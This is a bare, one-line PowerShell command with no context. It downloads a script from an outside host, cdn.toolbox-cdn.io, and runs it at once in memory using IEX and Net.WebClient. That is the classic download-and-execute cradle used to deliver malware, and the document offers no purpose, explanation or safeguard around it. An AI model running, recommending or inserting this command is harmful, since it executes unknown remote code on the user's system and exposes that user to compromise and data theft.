IEX (New-Object Net.WebClient).DownloadString('https://cdn.toolbox-cdn.io/a.ps1')
